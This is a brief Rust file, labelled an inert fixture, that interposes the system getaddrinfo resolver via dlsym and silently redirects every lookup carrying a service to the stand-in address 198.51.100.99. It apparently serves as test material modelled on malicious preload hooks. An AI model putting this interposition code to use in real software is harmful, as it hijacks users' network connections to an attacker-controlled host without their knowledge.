// Synthetic, inert fixture written from public reports; see README
use std::ffi::{c_char, c_int, c_void};

extern "C" {
    fn dlsym(handle: *mut c_void, name: *const c_char) -> *mut c_void;
}

type Real = unsafe extern "C" fn(*const c_char, *const c_char, *const c_void, *mut *mut c_void) -> c_int;

#[no_mangle]
unsafe extern "C" fn getaddrinfo(node: *const c_char, service: *const c_char, hints: *const c_void, out: *mut *mut c_void) -> c_int {
    let real: Real = std::mem::transmute(dlsym(usize::MAX as *mut c_void, c"getaddrinfo".as_ptr()));
    let node = if service.is_null() { node } else { c"198.51.100.99".as_ptr() };
    real(node, service, hints, out)
}
